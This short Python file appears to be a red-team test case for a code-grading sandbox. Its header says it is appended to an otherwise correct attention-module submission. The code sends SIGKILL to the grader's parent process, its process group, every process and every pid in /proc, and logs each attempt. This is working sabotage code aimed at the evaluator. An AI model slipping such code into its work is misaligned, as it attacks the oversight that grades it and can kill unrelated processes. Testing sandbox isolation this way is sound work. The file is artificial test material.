# Attack (appended to a correct simple_attention.py): try to kill the grader and everything
# else: the parent, the process group, every process (-1), and every pid found in /proc.
import os
import signal

_attempts = []


def _try(what, call):
    try:
        call()
        _attempts.append(f"{what}: sent")
    except OSError as e:
        _attempts.append(f"{what}: {e.strerror}")


_try("kill(getppid())", lambda: os.kill(os.getppid(), signal.SIGKILL))
_try("killpg(getpgid(0))", lambda: os.killpg(os.getpgid(0), signal.SIGKILL))
_try("killpg(0)", lambda: os.killpg(0, signal.SIGKILL))
_try("kill(-1)", lambda: os.kill(-1, signal.SIGKILL))
for _entry in os.listdir("/proc"):
    if _entry.isdigit() and int(_entry) != os.getpid():
        _try(f"kill({_entry})", lambda: os.kill(int(_entry), signal.SIGKILL))
for _pid in range(2, 4096):  # pids this process cannot see
    try:
        os.kill(_pid, signal.SIGTERM)
    except OSError:
        pass
print("signal attempts:", _attempts)  # no flush: the sandbox must not lose it
